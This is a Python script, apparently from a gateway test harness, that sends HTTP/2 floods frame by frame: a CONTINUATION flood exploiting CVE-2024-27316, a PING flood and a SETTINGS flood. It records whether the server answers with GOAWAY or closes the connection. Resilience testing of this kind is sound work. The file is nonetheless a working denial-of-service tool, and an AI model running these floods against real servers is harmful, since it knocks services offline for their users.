"""HTTP/2 floods against the gateway over h2 with a client certificate, written frame by frame (hyperframe):

- continuation: a HEADERS frame without END_HEADERS followed by CONTINUATION frames that never end the block
  (CVE-2024-27316), up to --frames;
- ping: PING frames in a loop, up to --frames;
- settings: empty SETTINGS frames in a loop, up to --frames.

Prints one JSON object: frames sent before the connection ended, the GOAWAY's error code if one came, and
whether the connection was closed."""
import argparse
import json

from hyperframe.frame import ContinuationFrame, Frame, GoAwayFrame, HeadersFrame, PingFrame, SettingsFrame
import hpack

from h2_attack import CLOSED, add_connection_arguments, connect, poll, read_until_closed

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def read_frames(buffer):
    frames = []
    while len(buffer) >= 9:
        frame, length = Frame.parse_frame_header(memoryview(buffer[:9]))
        if len(buffer) < 9 + length:
            break
        frame.parse_body(memoryview(buffer[9:9 + length]))
        frames.append(frame)
        buffer = buffer[9 + length:]
    return frames, buffer


def main():
    parser = argparse.ArgumentParser()
    add_connection_arguments(parser)
    parser.add_argument("--attack", choices=["continuation", "ping", "settings"], required=True)
    parser.add_argument("--frames", type=int, default=2000)
    args = parser.parse_args()

    sock = connect(args)
    sock.sendall(PREFACE + SettingsFrame(0).serialize())
    result = {"sent": 0, "goaway": None, "closed": False}
    buffer = b""

    def take(data):
        nonlocal buffer
        frames, buffer = read_frames(buffer + data)
        for frame in frames:
            if isinstance(frame, GoAwayFrame):
                result["goaway"] = frame.error_code

    if args.attack == "continuation":
        block = hpack.Encoder().encode([(":method", "GET"), (":path", "/"), (":scheme", "https"), (":authority", "localhost")])
        sock.sendall(HeadersFrame(1, data=block[:4]).serialize())  # no END_HEADERS
    sock.settimeout(0.0)
    try:
        for i in range(args.frames):
            if args.attack == "continuation":
                frame = ContinuationFrame(1, data=b"\x00" * 16)
            elif args.attack == "ping":
                frame = PingFrame(0, opaque_data=i.to_bytes(8, "big"))
            else:
                frame = SettingsFrame(0)
            sock.sendall(frame.serialize())
            result["sent"] += 1
            if not poll(sock, result, take):
                break
    except CLOSED:
        result["closed"] = True
    read_until_closed(sock, result, take)
    print(json.dumps(result))


if __name__ == "__main__":
    main()
